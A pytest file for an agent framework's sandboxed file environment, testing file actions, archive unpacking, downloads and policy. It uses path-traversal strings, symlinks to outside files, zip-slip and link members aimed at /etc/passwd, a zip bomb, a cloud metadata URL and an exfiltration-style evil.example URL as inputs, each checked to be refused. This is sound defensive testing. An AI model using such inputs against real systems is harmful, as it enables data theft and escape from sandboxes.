"""The environment `files`: every action with its effect on the disk, and what would lead out of the folder."""

from __future__ import annotations

import hashlib
import io
import json
import os
import socket
import tarfile
import zipfile
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest
from aiohttp import web

from agentorchestra.core.content import Trust, without_numbers
from agentorchestra.core.effects import ArtifactRef, Outcome, Provenance
from agentorchestra.core.errors import ToolError
from agentorchestra.core.policy import PolicyView
from agentorchestra.core.settings import FolderSettings, Settings, WebSettings
from agentorchestra.environments.files.environment import FilesEnvironment
from agentorchestra.environments.folder import FolderEnvironment, FolderGround
from agentorchestra.environments.manifest import FolderLimits
from agentorchestra.log.store import MemoryStore
from agentorchestra.tea.calling.actions import action_effect
from agentorchestra.tea.calling.environment import action
from agentorchestra.tea.calling.tool import tool
from agentorchestra.testing import ScriptedModel, call, decide
from agentorchestra.trust.policy import AllowAll, DefaultPolicy
from agentorchestra.workspace import Workspace


class Used:
    """A workspace whose environment `files` is called directly, and its folder on the disk."""

    def __init__(self, ws: Workspace[None]) -> None:
        self.ws = ws

    @property
    def folder(self) -> Path:
        (found,) = self.ws.files.root.glob("*/environments/main/folder")
        return found

    async def outcome(self, action: str, /, **arguments: Any) -> Outcome:
        return await self.ws.ecp.invoke("files", action, arguments)

    async def __call__(self, action: str, /, **arguments: Any) -> str:
        outcome = await self.outcome(action, **arguments)
        assert outcome.ok, outcome.error
        return "\n".join(block.text for block in outcome.blocks() if block.type == "text")

    async def refused(self, action: str, /, **arguments: Any) -> str:
        outcome = await self.outcome(action, **arguments)
        assert not outcome.ok, outcome.value
        return str(outcome.error)


@pytest.fixture
async def files(tmp_path: Path) -> AsyncIterator[Used]:
    (tmp_path / "ws").mkdir()
    async with Workspace(tmp_path / "ws", settings=Settings(model="offline"), store=MemoryStore()) as ws:
        yield Used(ws)


# -- every action ------------------------------------------------------------------------------------------------------


async def test_write_read_edit_list_search(files: Used) -> None:
    assert await files("write", path="src/main.py", content="a = 1\nb = 2\nb = 2\n") == "wrote src/main.py (18 bytes)"
    path = files.folder / "src/main.py"
    assert path.read_text() == "a = 1\nb = 2\nb = 2\n" and path.stat().st_mode & 0o777 == 0o644
    assert "b = 2" in await files("read", path="src/main.py") and "a = 1" in await files("read", path="src/main.py")
    assert "a = 1" not in await files("read", path="src/main.py", part="lines 2-3")
    assert await files("edit", path="src/main.py", old="a = 1", new="a = 3") == "replaced 1 place in src/main.py"
    assert path.read_text().startswith("a = 3\n")
    said = await files.refused("edit", path="src/main.py", old="b = 2", new="b = 4")
    assert "stands 2 times in src/main.py (lines 2, 3)" in said and "every=true" in said
    assert await files("edit", path="src/main.py", old="b = 2", new="b = 4", every=True)
    assert path.read_text() == "a = 3\nb = 4\nb = 4\n"
    assert "does not stand in src/main.py" in await files.refused("edit", path="src/main.py", old="zzz", new="")
    await files("write", path="notes.md", content="# Notes\nb = 4 is said here\n")
    assert await files("list") == "notes.md (27 bytes)\nsrc/"
    assert "src/main.py (18 bytes)" in await files("list", depth=2)
    assert (
        await files("search", text="B = 4")
        == "notes.md:2: b = 4 is said here\nsrc/main.py:2: b = 4\nsrc/main.py:3: b = 4"
    )
    assert await files("search", names="*.py") == "src/main.py (18 bytes)"
    assert await files("search", text="b = 4", names="*.md") == "notes.md:2: b = 4 is said here"
    shown = await files.ws.ecp.state("files")
    assert "src/main.py (18 bytes)" in shown[0].text  # type: ignore[union-attr]


async def test_move_copy_make_folder_delete_undelete(files: Used) -> None:
    await files("write", path="a/one.txt", content="one")
    folder = files.folder
    (folder / "a/tool").write_text("#!/bin/sh\n")
    (folder / "a/tool").chmod(0o755)
    (folder / "a/link").symlink_to("one.txt")
    assert await files("copy", path="a", to="b/c") == "copied a to b/c (2 files)"
    assert (folder / "b/c/tool").stat().st_mode & 0o100 and (folder / "b/c/link").readlink() == Path("one.txt")
    assert await files("move", path="b/c/one.txt", to="two.txt") == "b/c/one.txt is two.txt now"
    assert (folder / "two.txt").read_text() == "one" and not (folder / "b/c/one.txt").exists()
    assert "two.txt is there already" in await files.refused("move", path="a/one.txt", to="two.txt")
    assert "moved into itself" in await files.refused("move", path="a", to="a/b")
    await files("make_folder", path="x/y")
    assert (folder / "x/y").is_dir()
    assert (await files("delete", path="a")).startswith("deleted a (4 entries)")
    assert not (folder / "a").exists()
    assert "a" in (await files.ws.ecp.state("files"))[0].text.splitlines()[-1]  # type: ignore[union-attr]
    await files("undelete", path="a")
    assert (folder / "a/one.txt").read_text() == "one" and (folder / "a/tool").stat().st_mode & 0o777 == 0o755
    assert (folder / "a/link").readlink() == Path("one.txt")
    assert "nothing was deleted at 'a'" in await files.refused("undelete", path="a")
    assert "the folder itself" in await files.refused("delete", path=".")


async def test_what_is_not_there_or_does_not_fit_is_a_sentence(files: Used) -> None:
    await files("write", path="a.txt", content="x")
    (files.folder / "bin").write_bytes(b"\x00\x01\xff")
    assert await files.refused("read", path="b.txt") == "b.txt does not exist; list shows what there is"
    assert await files.refused("list", path="a.txt") == "a.txt is no folder"
    assert await files.refused("write", path="a.txt/b", content="") == "a.txt/b is no folder"
    assert "bin holds binary data, not text" in await files.refused("edit", path="bin", old="a", new="b")
    assert "depth is 11" in await files.refused("list", depth=11)
    assert "say what to look for" in await files.refused("search")
    assert "no file nope; write makes one" in await files.refused("edit", path="nope", old="a", new="b")
    assert "the folder itself" in await files.refused("move", path="", to="b")


async def test_line_ends_and_codings_stay(files: Used) -> None:
    await files("write", path="a.txt", content="")
    folder = files.folder
    (folder / "dos.txt").write_bytes(b"one\r\ntwo\r\nthree\r\n")
    await files("edit", path="dos.txt", old="one\ntwo", new="1\n2")
    assert (folder / "dos.txt").read_bytes() == b"1\r\n2\r\nthree\r\n"
    (folder / "wide.txt").write_bytes(b"\xff\xfe" + "grün".encode("utf-16-le"))
    await files("edit", path="wide.txt", old="grün", new="rot")
    assert (folder / "wide.txt").read_bytes() == b"\xff\xfe" + "rot".encode("utf-16-le")


async def test_tables_are_read_by_rows_and_cells(files: Used) -> None:
    await files("write", path="data/prices.csv", content="item,price\napple,3\npear,4\n")
    assert await files("read", path="data/prices.csv", part="B3") == "4"
    assert "apple" not in await files("read", path="data/prices.csv", part="rows 3-3")
    assert "has no part 'p. 9'" in await files.refused("read", path="data/prices.csv", part="p. 9")


async def test_download_writes_what_a_site_gives(tmp_path: Path) -> None:
    async def page(request: web.Request) -> web.Response:
        return web.Response(body=b"\x00\x01binary", content_type="application/octet-stream")

    async def robots(request: web.Request) -> web.Response:
        return web.Response(text="User-agent: *\nDisallow: /private/\n")

    app = web.Application()
    app.router.add_get("/robots.txt", robots)
    app.router.add_get("/data/report.bin", page)
    app.router.add_get("/private/report.bin", page)
    runner = web.AppRunner(app)
    await runner.setup()
    listening = socket.create_server(("127.0.0.1", 0))
    place = f"127.0.0.1:{listening.getsockname()[1]}"
    await web.SockSite(runner, listening).start()
    settings = Settings(model="offline", web=WebSettings(private=(place,)))
    try:
        async with Workspace(tmp_path / "ws", settings=settings, policy=AllowAll()) as ws:
            files = Used(ws)
            said = await files("download", url=f"http://{place}/data/report.bin", path="in/")
            assert said == "wrote in/report.bin (8 bytes, application/octet-stream)"
            assert (files.folder / "in/report.bin").read_bytes() == b"\x00\x01binary"
            taken = await files.refused("download", url=f"http://{place}/data/report.bin", path="in/report.bin")
            assert "is there already" in taken
            private = await files.refused("download", url=f"http://{place}/private/report.bin")
            assert "robots.txt asks programs not to" in private
            missing = await files.refused("download", url=f"http://{place}/nothing")
            assert "answered with status 404" in missing
            assert "169.254.169.254" in await files.refused("download", url="http://169.254.169.254/latest")
    finally:
        await runner.cleanup()


# -- archives ----------------------------------------------------------------------------------------------------------


def _zip(members: dict[str, bytes | str]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
        link = zipfile.ZipInfo("leads")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    return out.getvalue()


async def test_unpack_leaves_out_what_leads_elsewhere(files: Used, tmp_path: Path) -> None:
    await files("make_folder", path="in")
    folder = files.folder
    (folder / "in/a.zip").write_bytes(_zip({"ok/x.txt": "x", "../../out.txt": "bad", "/abs.txt": "bad"}))
    said = await files("unpack", path="in/a.zip", to="a")
    assert said.startswith("unpacked 1 file into a\n") and "../../out.txt is a path out of the archive" in said
    assert "leads is a link and was left out" in said
    assert sorted(str(one.relative_to(folder / "a")) for one in (folder / "a").rglob("*")) == ["ok", "ok/x.txt"]
    assert not [*tmp_path.rglob("out.txt"), *tmp_path.rglob("abs.txt")]
    assert "a is there already" in await files.refused("unpack", path="in/a.zip", to="a")

    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as archive:
        for name, kind, target in (("run.sh", tarfile.REGTYPE, ""), ("hard", tarfile.LNKTYPE, "/etc/passwd")):
            info = tarfile.TarInfo(name)
            info.type, info.linkname, info.mode = kind, target, 0o755
            info.size = 3 if kind == tarfile.REGTYPE else 0
            archive.addfile(info, io.BytesIO(b"abc") if info.size else None)
    (folder / "in/b.tar.gz").write_bytes(out.getvalue())
    said = await files("unpack", path="in/b.tar.gz")
    assert said.startswith("unpacked 1 file into b\n") and "hard is a link" in said
    assert (folder / "b/run.sh").read_bytes() == b"abc" and (folder / "b/run.sh").stat().st_mode & 0o100


async def test_a_bomb_is_refused(files: Used) -> None:
    await files("make_folder", path="in")
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("zeros", b"\0" * 25_000_000)
    (files.folder / "in/bomb.zip").write_bytes(out.getvalue())
    said = await files.refused("unpack", path="in/bomb.zip", to="x")
    assert "is packed like a bomb" in said and said.startswith("in/bomb.zip ")
    assert not (files.folder / "x").exists()
    (files.folder / "in/no.zip").write_text("no archive")
    assert "is no zip or tar archive" in await files.refused("unpack", path="in/no.zip", to="x")


# -- never outside -----------------------------------------------------------------------------------------------------

OUTSIDE = ("../secret.txt", "/etc/passwd", "a/../../secret.txt", "~/x", "out/secret.txt", "alias.txt", "x\0y")


async def test_nothing_leads_out_of_the_folder(files: Used, tmp_path: Path) -> None:
    await files("write", path="a/in.txt", content="in")
    folder = files.folder
    outside = tmp_path / "elsewhere"
    outside.mkdir()
    (outside / "secret.txt").write_text("SECRET")
    (folder / "out").symlink_to(outside)
    (folder / "alias.txt").symlink_to(outside / "secret.txt")
    os.mkfifo(folder / "pipe")
    for path in OUTSIDE:
        for name, arguments in (
            ("read", {"path": path}),
            ("write", {"path": path, "content": "x", "overwrite": True}),
            ("edit", {"path": path, "old": "SECRET", "new": "x"}),
            ("copy", {"path": path, "to": "copy"}),
            ("copy", {"path": "a/in.txt", "to": path}),
            ("move", {"path": "a/in.txt", "to": path}),
        ):
            said = await files.refused(name, **arguments)
            assert "SECRET" not in said, (name, path)
    assert "is a link, and links are not followed" in await files.refused("read", path="out/secret.txt")
    assert "links are not followed" in await files.refused("make_folder", path="out/new")
    assert "links are not followed" in await files.refused("delete", path="out/secret.txt")
    assert "is no file: a socket" in await files.refused("read", path="pipe")  # and nobody waits for a writer
    assert "SECRET" not in await files("search", text="secret")
    assert "secret.txt" not in (await files("list", depth=5)).replace(f"-> {outside}/secret.txt", "")
    assert await files("delete", path="out")  # the link itself may go
    assert (outside / "secret.txt").read_text() == "SECRET" and [*outside.iterdir()] == [outside / "secret.txt"]


async def test_a_link_put_in_the_way_is_not_followed_by_a_restore(tmp_path: Path) -> None:
    kept: dict[str, bytes] = {}

    class Context:
        async def artifact(self, name: str, data: bytes, media_type: str = "") -> Any:

            digest = hashlib.sha256(data).hexdigest()
            kept[digest] = data
            return ArtifactRef(name=name, sha256=digest, size=len(data))

        async def read_artifact(self, ref: Any) -> bytes:
            return kept[ref.sha256]

    ground = FolderGround(tmp_path / "place", Context(), keep=True)
    await ground.open()
    (ground.folder / "d").mkdir()
    (ground.folder / "d/f.txt").write_text("mine")
    before = await ground.snapshot()
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "f.txt").write_text("theirs")
    (ground.folder / "d/f.txt").unlink()
    (ground.folder / "d").rmdir()
    (ground.folder / "d").symlink_to(outside)
    assert b"theirs" not in b"".join(kept.values()) and "theirs" not in (await ground.snapshot()).decode()
    assert b"theirs" not in b"".join(kept.values())
    await ground.restore(before)
    assert (ground.folder / "d/f.txt").read_text() == "mine" and not (ground.folder / "d").is_symlink()
    assert (outside / "f.txt").read_text() == "theirs"


async def test_the_settings_say_how_much_can_be_kept(tmp_path: Path) -> None:
    settings = Settings(model="offline", folder=FolderSettings(max_file_mib=0.001))
    (tmp_path / "ws").mkdir()
    async with Workspace(tmp_path / "ws", settings=settings, store=MemoryStore()) as ws:
        said = await Used(ws)("write", path="a.txt", content="x" * 2000)
        assert said.startswith("wrote") and "a.txt has 2,000 bytes; files of more than 1,048 bytes are in no" in said


async def test_more_than_can_be_kept_is_said(tmp_path: Path) -> None:
    ground = FolderGround(tmp_path / "p", None, keep=True, limits=FolderLimits(bytes=10, entries=3, file_bytes=8))
    await ground.open()
    (ground.folder / "a").write_text("123456789")
    left_out = await ground.snapshot()
    assert ground.notes() == (
        "a has 9 bytes; files of more than 8 bytes are in no snapshot: it is there for this run on this machine, not "
        "in a fork or in a bundle",
    )
    assert ground.notes() == () and json.loads(left_out)["entries"] == []
    await ground.restore(left_out)
    assert (ground.folder / "a").read_text() == "123456789"
    (ground.folder / "a").write_text("1234567890")  # another one than was left out
    await ground.restore(left_out)
    assert not (ground.folder / "a").exists()
    for name in "abcd":
        (ground.folder / name).mkdir()
    with pytest.raises(ToolError, match="more than 3 files and folders"):
        await ground.snapshot()


# -- policy ------------------------------------------------------------------------------------------------------------


def test_paths_are_not_asked_about_and_a_download_is_a_network_read(tmp_path: Path) -> None:
    page = (Provenance(kind="page", ref="http://b.example", trust=Trust.UNTRUSTED),)
    view = PolicyView(user_content=("Fetch http://a.example/data/x.pdf please.",))
    policy = DefaultPolicy(folder=tmp_path)

    def judged(environment: FolderEnvironment, name: str, **arguments: Any) -> str:
        declared = next((one for one in environment.actions() if one.name == name), None)
        effect = action_effect(environment, name, arguments, provenance=page, schema=declared)
        return policy.decide(effect, view).action

    files = FilesEnvironment()
    assert judged(files, "download", url="http://a.example/data/x.pdf", path="docs/x.pdf") == "allow"
    assert judged(files, "download", url="http://evil.example/?q=secret") == "ask"
    assert judged(files, "write", path="a.sh", content="/bin/sh ../x") == "allow"
    assert judged(files, "write", path="/etc/passwd", content="x") == "allow"  # and the environment refuses it

    class Loose(FolderEnvironment):
        """Follows paths by itself."""

        name = "loose"

        @action
        def put(self, path: str) -> None:
            """Put."""

    assert judged(Loose(), "put", path="/etc/passwd") == "ask" and judged(Loose(), "put", path="in/a") == "allow"


# -- read and edit fit together ---------------------------------------------------------------------------------------


@pytest.mark.sampled(3)
@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("a.html", b"<!doctype html>\r\n<html><body>\r\n\r\n  <p>One.</p>\r\n</body></html>\r\n"),
        ("a.xml", b'<?xml version="1.0"?>\n<a:r xmlns:a="urn:x">\n  <a:i  n = "1"/>\n</a:r>\n'),
        ("merge.py", b"<<<<<<< ours\na = 1\n=======\na = 2\n>>>>>>> theirs\n"),
        ("old.txt", "größe\r\rsüß\r".encode("cp1252")),
        ("mixed.txt", b"one\r\n\ntwo\rthree\n"),
        ("blank.txt", b"\n\n  \n"),
    ],
)
async def test_what_is_read_can_be_edited(files: Used, name: str, data: bytes) -> None:
    """The lines as they are shown, without their numbers, are taken by edit; nothing else changes."""
    await files("make_folder", path="x")
    path = files.folder / name
    path.write_bytes(data)
    outcome = await files.outcome("read", path=name)
    (content,) = [block for block in outcome.blocks() if block.source is not None and block.source.place]
    assert content.type == "text" and content.text.startswith("1\t")
    shown = without_numbers(content)
    first, *rest = shown.split("\n")
    new = "\n".join([f"{first}!", *rest])
    said = await files("edit", path=name, old=shown, new=new)
    assert said.splitlines()[0] == f"replaced 1 place in {name}"
    assert ("syntax error, line 1" in said) == (name == "merge.py")
    end = len(first.encode("cp1252" if name == "old.txt" else "utf-8"))
    assert path.read_bytes().replace(b"\r\n", b"\n").replace(b"\r", b"\n") == (
        (data[:end] + b"!" + data[end:]).replace(b"\r\n", b"\n").replace(b"\r", b"\n")
    )


async def test_a_change_between_two_readings_is_told(tmp_path: Path) -> None:
    """Whoever reads on learns that the file is another one by now."""
    (tmp_path / "ws").mkdir()
    steps = [
        decide(calls=[call("files_write", path="a.txt", content="one\ntwo\nthree\n")]),
        decide(calls=[call("files_read", path="a.txt", view_range=[1, 2])]),
        decide(calls=[call("change")]),
        decide(calls=[call("files_read", path="a.txt", view_range=[2, 3])]),
        decide(calls=[call("files_read", path="a.txt", view_range=[2, 3])]),
        decide(calls=[call("done", answer="read")]),
    ]

    @tool(effect="read")
    def change() -> str:
        """Change the file behind everybody's back."""
        (path,) = (tmp_path / "ws").glob("runs/*/environments/main/folder/a.txt")
        path.write_text("zero\none\ntwo\nthree\n")
        return "changed"

    model = ScriptedModel(steps)
    async with Workspace(tmp_path / "ws", models={"scripted": model}, tools=[change], policy=AllowAll()) as ws:
        result = await ws.run("Read.", system="react", model="scripted", environments=["files"])
    assert result.answer == "read", result
    results = [message.text for message in model.requests[-1].messages if message.role == "tool"]
    assert "It was changed by another since you last saw it:" in results[3] and "+zero" in results[3]
    assert "2\tone\n3\ttwo" in results[3]
    assert "changed" not in results[4] and "2\tone\n3\ttwo" in results[4], "told once"
